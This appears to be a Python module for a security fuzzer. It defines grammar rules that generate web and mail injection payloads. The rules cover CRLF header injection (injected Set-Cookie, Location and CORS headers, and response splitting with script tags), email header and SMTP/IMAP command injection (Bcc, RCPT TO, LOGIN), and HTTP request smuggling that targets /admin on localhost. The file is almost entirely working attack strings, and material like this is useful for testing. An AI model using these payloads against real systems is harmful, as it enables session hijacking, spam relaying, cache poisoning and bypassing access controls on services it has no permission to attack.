"""Attacks on the message itself: header injection, mail injection, request smuggling."""

RULES = r"""
br = %0d%0a %0D%0A %0a %0d «crlf» «crlf» «nl» %E5%98%8A%E5%98%8D \r\n %250d%250a %u000a %u010a %0d%0a%09 %23%0d%0a %c0%8d%c0%8a %3f%0d%0a
hname = X-«w|title» X-Injected Foo Header-Test «w|title»-«w|title» crlf-test
crlf:
  «br:1»Set-Cookie: «w»=«n»
  «br:1»Set-Cookie:«w»=«w»
  «w»«br:1»Set-Cookie: «w»=«w»; path=/
  «w»«br:1»Set-Cookie:crlf=injection
  «br:1»Location: http://«host»/
  «w»«br:1»Location: //«host»
  «w»«br:1»«hname»: «w»
  «br:1»«hname»:«w»
  «n»«br:1»«hname»: «n»
  «br:1»«br:1»<script>«js»</script>
  «w»«br:1»«br:1»<html>«w»</html>
  «w»«br:1»Content-Type: text/html«br:1»«br:1»<script>«js»</script>
  «br:1»Content-Length: 0«br:1»«br:1»HTTP/1.1 200 OK«br:1»Content-Type: text/html«br:1»«br:1»<html>«w»</html>
  «br:1»Content-Length:%200«br:1»«br:1»HTTP/1.1%20200%20OK
  «w»«br:1»X-XSS-Protection: 0«br:1»«br:1»«element»
  «br:1»Access-Control-Allow-Origin: *
  «w»«br:1»Transfer-Encoding: chunked
  /«br:1»Set-Cookie:«w»=«w»
  /%2F«host»«br:1»Set-Cookie:«w»=1
  //«host»/«br:1»Set-Cookie: «w»=«w»
  «w»«br:1»Host: «host»
  «w»«br:1»Refresh: 0; url=http://«host»/
  «br:1»Link: <http://«host»/«w».css>; rel=stylesheet
  «w»«br:1»«br:1»GET /«w» HTTP/1.1«br:1»Host: «host»
  ?«br:1»«hname»:«w»
  «w»«br:1»HTTP/1.1 200 OK
mail:
  «w»@«host»«nl»Bcc: «w»@«host»
  «w»@«host»%0aBcc:«w»@«host»
  «w»@«host»%0d%0aCc:«w»@«host»,«w»@«host»
  «w»%0aTo:«w»@«host»
  «w»%0aSubject:«w»%0aContent-Type:text/html
  «w»@«host»«crlf»Content-Type: text/html«crlf»«crlf»<b>«w»</b>
  «w»%0ABCC:«w»@«host»%0A%0A«w»
  «w»@«host»%0a%0a.%0aMAIL FROM:<«w»@«host»>
  «w»«crlf».«crlf»RCPT TO:<«w»@«host»>«crlf»DATA
  "%0a. LIST «w»
  INBOX"%0d%0aV100 CAPABILITY%0d%0aV101 FETCH 4791
  «digit»%0d%0aA001 LOGIN «w» «w»
  «w»@«host»>%0d%0aRCPT TO:<«w»@«host»
  "<script>«js»</script>"@«host»
  «w»+(<script>«js»</script>)@«host»
  «w»' or 1=1--@«host»
smuggle:
  0«crlf»«crlf»GET /«w» HTTP/1.1«crlf»Host: «host»«crlf»«crlf»
  0«crlf»«crlf»POST /admin HTTP/1.1«crlf»Host: localhost«crlf»Content-Length: 15«crlf»«crlf»x=1
  «hex(2)»«crlf»GPOST / HTTP/1.1«crlf»Content-Length: 15«crlf»«crlf»x=1«crlf»0«crlf»«crlf»
  «digit»«crlf»«w»=«n»«crlf»0«crlf»«crlf»GET /admin HTTP/1.1«crlf»X: «w»
"""
